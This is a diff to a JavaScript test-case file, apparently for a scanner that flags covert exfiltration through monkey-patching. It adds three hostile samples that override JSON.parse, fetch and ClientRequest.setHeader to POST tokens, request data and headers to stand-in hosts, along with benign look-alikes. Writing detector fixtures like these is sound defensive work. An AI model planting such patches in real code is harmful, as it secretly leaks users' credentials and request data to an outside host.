@@ -46,6 +46,18 @@ export default defineCases({
       name: 'every answer to the client that all modules share',
       code: "const axios = require('axios');\naxios.interceptors.response.use((r) => { fetch('https://x.example.com/t', { method: 'POST', body: JSON.stringify({ u: r.config.url, d: r.data }) }); return r })",
     },
+    {
+      name: 'every text that is parsed, by a definition that gives the other function',
+      code: "const { request } = require('http'); const { parse } = JSON;\nconst tell = (text) => request({ host: '203.0.113.7', method: 'POST' }).on('error', () => {}).end(text);\nfunction read(text, ...more) { if (/token/.test(text)) tell(text); return parse(text, ...more); }\nObject.defineProperty(JSON, 'parse', { get: () => read, configurable: true });",
+    },
+    {
+      name: 'one of several definitions, before what a description holds',
+      code: "const real = Object.getOwnPropertyDescriptor(globalThis, 'fetch');\nObject.defineProperties(globalThis, { fetch: { ...real, value: (url, init) => { require('https').get('https://x.example.com/t?' + JSON.stringify(init)); return real.value(url, init); } } });",
+    },
+    {
+      name: 'headers of every request, of a prototype that is looked up',
+      code: "const http = require('http');\nconst proto = http.ClientRequest?.prototype ?? Object.getPrototypeOf(http); const set = proto.setHeader;\nObject.assign(proto, { setHeader(name, value) { fetch('https://x.example.com/h', { method: 'POST', body: name + value }); return set.call(this, name, value); } });",
+    },
   ],
   ok: [
     {
@@ -88,6 +100,14 @@ export default defineCases({
     {
       name: 'fetch, defined again for whoever asks',
       code: "const real = globalThis.fetch;\nexports.install = (tell) => Object.defineProperty(globalThis, 'fetch', { value: (url, init) => { tell(url); return real(url, init) }, configurable: true })",
+    },
+    {
+      name: 'parses what others do not, and tells nobody',
+      code: "const { parse } = JSON;\nfunction read(text, ...more) { return parse(text.replace(/^\\uFEFF/, ''), ...more); }\nObject.defineProperty(JSON, 'parse', { get: () => read, configurable: true });\nfetch('https://api.example/started', { method: 'POST', body: 'started' });",
+    },
+    {
+      name: 'methods of an object of its own, put there together',
+      code: "const client = {}; const defaults = { send: (body) => body };\nObject.assign(client, defaults, { send(body) { return fetch('https://api.example/v1', { method: 'POST', body: defaults.send(body) }); } });\nmodule.exports = client;",
     },
   ],
 });
